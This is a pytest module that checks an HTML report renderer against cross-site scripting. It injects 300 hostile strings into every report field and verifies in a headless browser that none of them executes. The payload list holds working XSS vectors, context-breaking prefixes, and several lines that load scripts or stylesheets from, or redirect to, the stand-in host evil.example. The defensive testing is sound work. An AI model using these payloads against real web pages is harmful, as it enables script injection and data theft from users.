"""Hostile text in every field of a comparison: no dialog, no policy report, no new element.

Every field gets several of the 300 vectors in each round, and each round uses all of them. The
deep suite runs as many rounds as it takes for every field to have met every vector.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.unit.report.headless import DEEP, Visit, browser
from tests.unit.report.synthetic_comparison import build, with_text

from servanda.report.html import render
from servanda.study.result import Comparison

ACT = "window.xss=1;alert(1)"
PAYLOADS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt>{ACT}</sCrIpT>",
    f"<script src=data:text/javascript,{ACT}></script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={ACT}>",
    f'<img src=x onerror="{ACT}">',
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#a></svg>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<iframe src=javascript:{ACT}></iframe>",
    f"<object data=javascript:{ACT}></object>",
    f"<embed src=javascript:{ACT}>",
    f"<a href=javascript:{ACT}>x</a>",
    f'<a href="jav&#x09;ascript:{ACT}">x</a>',
    f"<body onload={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<math><mtext><style><img src=x onerror={ACT}></style></mtext></math>",
    f"<style>*{{background:url(javascript:{ACT})}}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    f"{{{{ [].__class__ }}}}{{% set x = 1 %}}<b onclick={ACT}>",
    f"${{{ACT}}}#{{{ACT}}}",
    f"constructor.constructor('{ACT}')()",
    f"javascript:{ACT}//",
)
OPENINGS = (
    "",
    "\"'>",
    "</script>",
    "</style></title></textarea>",
    "-->",
    "]]>",
    "\\u003c/script>\\x3e",
    '"}]}</script>',
    "');",
    "\u2028\u2029\x00\ufeff",
)
VECTORS = tuple(opening + payload for payload in PAYLOADS for opening in OPENINGS)
TOGETHER = 5
ROUNDS = len(VECTORS) // TOGETHER if DEEP else 2

CENSUS = """() => { const count = {};
  document.querySelectorAll('*').forEach(e => { if (!e.closest('svg')) {
    count[e.tagName] = (count[e.tagName] || 0) + 1; } });
  return count; }"""
HANDLERS = """() => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a =>
  a.name.startsWith('on') || a.name === 'srcdoc'
  || (['href', 'src', 'action', 'data', 'xlink:href'].includes(a.name)
      && !/^(#|data:,$)/.test(a.value))))
  .filter(e => !e.closest('svg'))
  .map(e => e.outerHTML.slice(0, 200))"""
IN_CHARTS = """() => [...new Set([...document.querySelectorAll('svg *')].map(e => e.tagName))]"""
OPEN_ALL = """() => document.querySelectorAll('[popover]').forEach(e => {
  e.showPopover(); e.hidePopover(); })"""
CHART_ADDRESSES = """() => [...document.querySelectorAll('svg *')].filter(e => [...e.attributes]
  .some(a => a.name.startsWith('on') || a.name.endsWith('href'))).length"""
DRAWN = {
    *("g", "path", "text", "tspan", "rect", "line", "defs", "clipPath", "title"),
    *("polygon", "polyline"),  # the pictures drawn by hand
}


def small() -> Comparison:
    """The comparison with few findings: hostile texts are long, and the file has a limit."""
    full = build()
    return full.model_copy(update={"duties": full.duties[::5]})


def hostile(turn: int) -> Callable[[str], str]:
    """Put vectors before each text, the same for the same text, others in another round."""
    seen: dict[str, str] = {}

    def change(text: str) -> str:
        if text not in seen:
            start = (len(seen) + turn) * TOGETHER
            found = [VECTORS[(start + i) % len(VECTORS)] for i in range(TOGETHER)]
            seen[text] = "".join(found) + text
        return seen[text]

    return change


pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def started(chromium: str) -> Iterator[Any]:
    with browser(chromium) as running:
        yield running


@pytest.fixture(scope="module")
def usual(started: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, int]:
    """The elements of the page when every text is strange but harmless."""
    file = tmp_path_factory.mktemp("plain") / "report.html"
    file.write_text(render(with_text(small(), lambda text: "t " + text)), encoding="utf-8")
    visit = Visit(started, file)
    count: dict[str, int] = visit.page.evaluate(CENSUS)
    visit.context.close()
    return count


def test_there_are_three_hundred_different_vectors() -> None:
    assert len(set(VECTORS)) == 300


def test_one_round_uses_every_vector() -> None:
    used: list[str] = []
    change = hostile(0)
    with_text(small(), lambda text: used.append(text) or change(text))  # type: ignore[func-returns-value]
    assert len(set(used)) * TOGETHER >= len(VECTORS)


@pytest.mark.parametrize("turn", range(ROUNDS))
def test_no_vector_does_anything(
    started: Any, usual: dict[str, int], tmp_path: Path, turn: int
) -> None:
    file = tmp_path / "report.html"
    text = render(with_text(small(), hostile(turn)))
    assert "shortened here" not in text
    file.write_text(text, encoding="utf-8")
    visit = Visit(started, file)
    visit.page.evaluate(OPEN_ALL)
    visit.page.hover("body")
    assert visit.dialogs == []
    assert visit.violations == []
    assert visit.outside(file) == []
    assert visit.errors == []
    assert visit.page.evaluate("window.xss") is None
    assert visit.page.evaluate(HANDLERS) == []
    assert set(visit.page.evaluate(IN_CHARTS)) <= DRAWN
    assert visit.page.evaluate(CHART_ADDRESSES) == 0
    assert visit.page.evaluate(CENSUS) == usual
    visit.context.close()
